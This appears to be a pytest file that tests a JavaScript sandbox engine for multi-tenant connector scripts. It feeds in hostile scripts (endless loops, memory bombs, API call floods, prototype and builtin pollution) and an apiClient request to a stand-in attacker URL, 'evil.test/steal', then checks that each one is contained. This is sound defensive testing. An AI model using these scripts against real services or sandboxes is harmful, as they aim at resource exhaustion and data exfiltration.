"""The hostile scripts: each ends with a clear error naming file and line, and nothing else
(the process, the event loop, other tenants' instances) is affected.

Limits are set low (a fraction of a second, 16 MiB) so these run in CI quickly. Nothing here
asserts on durations: "the event loop kept serving" is shown by ordering, not by timing.
"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Mapping
from typing import Any

import pytest

from connectory.errors import InputError, ScriptError, ScriptLimitError
from connectory.js import JsEngine

from .support import run, spec_with

FAST = {"time_limit": 0.5, "memory_limit": 16}

COUNTER = "let calls = 0;\nexport default () => ++calls;\n"


@pytest.fixture(name="engine")
async def _engine() -> AsyncIterator[JsEngine]:
    engine = JsEngine()
    yield engine
    await engine.aclose()


class CountingBridge:
    """An apiClient that answers every request and counts them."""

    def __init__(self) -> None:
        self.requests: list[Mapping[str, Any]] = []

    async def http(self, request: Mapping[str, Any]) -> dict[str, Any]:
        self.requests.append(request)
        if request.get("url") and not str(request["url"]).startswith("https://api.example.com"):
            raise InputError("apiClient: that is not the connector's origin")
        return {"status": 200, "headers": {}, "body": {"n": len(self.requests)}}


async def test_an_endless_loop_stops_at_the_time_limit_naming_the_function(
    engine: JsEngine,
) -> None:
    spec = spec_with(
        {"methods/spin.js": "// spins\nexport default () => {\n  while (true) {}\n};\n"}, FAST
    )
    with pytest.raises(ScriptLimitError) as caught:
        await run(engine, spec, "methods/spin.js")
    assert caught.value.limit == "time"
    assert str(caught.value).startswith("methods/spin.js:2:1 (methods/spin.js): ran longer than")
    # The engine is fine: the next call gets a fresh instance and works.
    spec_ok = spec_with({"methods/ok.js": "export default () => 'fine';\n"}, FAST)
    assert (await run(engine, spec_ok, "methods/ok.js")).value == "fine"


async def test_an_endless_loop_after_an_await_is_stopped_too(engine: JsEngine) -> None:
    text = "export default async () => {\n  await null;\n  for (;;) {}\n};\n"
    spec = spec_with({"methods/later.js": text}, FAST)
    with pytest.raises(ScriptLimitError, match="ran longer than"):
        await run(engine, spec, "methods/later.js")


async def test_timers_count_against_the_time_limit(engine: JsEngine) -> None:
    text = "export default () => new Promise((resolve) => setTimeout(resolve, 60000));\n"
    spec = spec_with({"methods/sleepy.js": text}, FAST)
    with pytest.raises(ScriptLimitError, match="ran longer than"):
        await run(engine, spec, "methods/sleepy.js")


async def test_an_allocation_bomb_stops_at_the_memory_limit(engine: JsEngine) -> None:
    text = (
        "export default () => {\n  const a = [];\n"
        "  while (true) a.push(new Array(100000).fill(1.5));\n};\n"
    )
    spec = spec_with({"methods/bomb.js": text}, FAST)
    with pytest.raises(ScriptLimitError) as caught:
        await run(engine, spec, "methods/bomb.js")
    assert caught.value.limit == "memory"
    assert caught.value.file == "methods/bomb.js"


async def test_a_200_mb_string_is_refused(engine: JsEngine) -> None:
    files = {
        "methods/returned.js": "export default () => 'x'.repeat(200 * 1024 * 1024);\n",
        "methods/flattened.js": (
            "export default () => {\n  const s = 'x'.repeat(200 * 1024 * 1024);\n"
            "  return s.toUpperCase().length;\n};\n"
        ),
    }
    spec = spec_with(files, FAST)
    for file in files:
        with pytest.raises(ScriptLimitError) as caught:
            await run(engine, spec, file)
        # Which limit V8 meets first depends on how fast it copies 200 MB (a loaded machine
        # meets the time limit); any of them is a clear error naming the file.
        assert caught.value.limit in ("memory", "output", "time")
        assert caught.value.file == file


async def test_ten_thousand_api_calls_stop_at_the_limit(engine: JsEngine) -> None:
    text = (
        "export default async (ctx) => {\n"
        "  for (let i = 0; i < 10000; i++) {\n"
        "    await ctx.apiClient.get('/items');\n"
        "  }\n"
        "};\n"
    )
    spec = spec_with({"methods/flood.js": text}, {**FAST, "max_api_calls": 50})
    bridge = CountingBridge()
    with pytest.raises(ScriptLimitError) as caught:
        await run(engine, spec, "methods/flood.js", bridge=bridge)
    assert caught.value.limit == "api_calls"
    assert (caught.value.file, caught.value.line) == ("methods/flood.js", 3)
    assert len(bridge.requests) == 50


async def test_catching_the_call_limit_does_not_escape_it(engine: JsEngine) -> None:
    text = (
        "export default (ctx) => {\n"
        "  let refused = 0;\n"
        "  for (let i = 0; i < 10000; i++) {\n"
        "    try { ctx.apiClient.get('/items'); } catch (e) { refused++; }\n"
        "  }\n"
        "  return refused;\n"
        "};\n"
    )
    spec = spec_with({"methods/sneaky.js": text}, {**FAST, "max_api_calls": 5})
    with pytest.raises(ScriptLimitError) as caught:
        await run(engine, spec, "methods/sneaky.js", bridge=CountingBridge())
    assert caught.value.limit == "api_calls"


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("Object.prototype = {};", "Cannot assign to read only property 'prototype'"),
        ("ctx.apiClient.request = () => 'forged';", "Cannot assign to read only property"),
        ("globalThis.__cty = {};", "Cannot assign to read only property '__cty'"),
        ("ctx.utils.sha256 = () => 'forged';", "Cannot assign to read only property"),
        ("ctx.credentials.secret = 'changed';", "Cannot assign to read only property"),
    ],
)
async def test_replacing_ctx_or_prototypes_fails_at_its_line(
    engine: JsEngine, line: str, expected: str
) -> None:
    spec = spec_with({"methods/h.js": f"export default (ctx) => {{\n  {line}\n}};\n"}, FAST)
    with pytest.raises(ScriptError) as caught:
        await run(engine, spec, "methods/h.js", bridge=CountingBridge())
    assert (caught.value.file, caught.value.line) == ("methods/h.js", 2)
    assert expected in str(caught.value)


async def test_polluting_builtins_reaches_nothing_outside(engine: JsEngine) -> None:
    text = (
        "export default async (ctx) => {\n"
        '  JSON.stringify = () => \'{"s":"ok","v":"forged"}\';\n'
        "  JSON.parse = () => ({ s: 'ok', v: 'forged' });\n"
        "  Array.prototype.push = function () { return 0; };\n"
        "  Object.defineProperty(Object.prototype, 'url',\n"
        "    { get() { return 'https://evil.test/'; } });\n"
        "  Object.prototype.toJSON = function () { return { url: 'https://evil.test/' }; };\n"
        "  ctx = null;\n"
        "  try {\n"
        "    await arguments;\n"
        "  } catch (e) {}\n"
        "  return 'done';\n"
        "};\n"
    )
    spec = spec_with({"methods/pollute.js": text}, FAST)
    bridge = CountingBridge()
    # Whatever the code did to its own builtins, its result comes back as JSON Python parses,
    # and no request left without Python's checks.
    outcome = await run(engine, spec, "methods/pollute.js", bridge=bridge)
    assert outcome.value == "done"
    assert bridge.requests == []


async def test_the_api_client_cannot_reach_another_origin(engine: JsEngine) -> None:
    text = (
        "export default async (ctx) => {\n"
        "  try {\n"
        "    await ctx.apiClient.request({ url: 'https://evil.test/steal' });\n"
        "  } catch (error) {\n"
        "    return [error.name, error.message];\n"
        "  }\n"
        "};\n"
    )
    spec = spec_with({"methods/away.js": text}, FAST)
    outcome = await run(engine, spec, "methods/away.js", bridge=CountingBridge())
    assert outcome.value == ["ApiError", "apiClient: that is not the connector's origin"]


async def test_globals_of_one_enterprise_are_invisible_to_another(engine: JsEngine) -> None:
    text = (
        "export default (ctx) => {\n"
        "  const seen = globalThis.visitor;\n"
        "  globalThis.visitor = ctx.input;\n"
        "  return seen ?? null;\n"
        "};\n"
    )
    spec = spec_with({"methods/g.js": text}, FAST)
    assert (
        await run(engine, spec, "methods/g.js", tenant="acme", ctx={"input": "acme"})
    ).value is None
    assert (
        await run(engine, spec, "methods/g.js", tenant="acme", ctx={"input": "x"})
    ).value == "acme"
    assert (
        await run(engine, spec, "methods/g.js", tenant="globex", ctx={"input": "g"})
    ).value is None


async def test_one_tenants_limit_does_not_touch_another_tenants_instance(engine: JsEngine) -> None:
    spec = spec_with(
        {
            "methods/count.js": COUNTER,
            "methods/bomb.js": (
                "export default () => { const a = []; for (;;) a.push('x' + a.length); };\n"
            ),
        },
        FAST,
    )
    assert (await run(engine, spec, "methods/count.js", tenant="globex")).value == 1
    with pytest.raises(ScriptLimitError):
        await run(engine, spec, "methods/bomb.js", tenant="acme")
    # globex's instance (and its state) survived acme's bomb.
    assert (await run(engine, spec, "methods/count.js", tenant="globex")).value == 2


async def test_the_event_loop_keeps_serving_while_code_spins(engine: JsEngine) -> None:
    spec = spec_with(
        {
            "methods/spin.js": "export default () => { for (;;) {} };\n",
            "methods/ok.js": "export default (ctx) => ctx.input;\n",
        },
        {"time_limit": 2, "memory_limit": 16},
    )
    spinning = asyncio.create_task(run(engine, spec, "methods/spin.js", tenant="acme"))
    await asyncio.sleep(0)
    answers = [
        (await run(engine, spec, "methods/ok.js", tenant="globex", ctx={"input": n})).value
        for n in range(20)
    ]
    assert answers == list(range(20))
    assert not spinning.done()  # the other tenant was served while this one still spun
    with pytest.raises(ScriptLimitError):
        await spinning


async def test_large_inputs_do_not_add_up_to_the_memory_limit(engine: JsEngine) -> None:
    # Each call's input is compiled into an entry script that is garbage once run; 40 calls
    # of 1 MB each would be more than the 16 MiB limit if that garbage were left to pile up.
    spec = spec_with({"methods/size.js": "export default (ctx) => ctx.input.length;\n"}, FAST)
    big = "x" * (1024 * 1024)
    for _ in range(40):
        assert (await run(engine, spec, "methods/size.js", ctx={"input": big})).value == len(big)
    assert engine.instances == 1  # the same instance throughout: never replaced
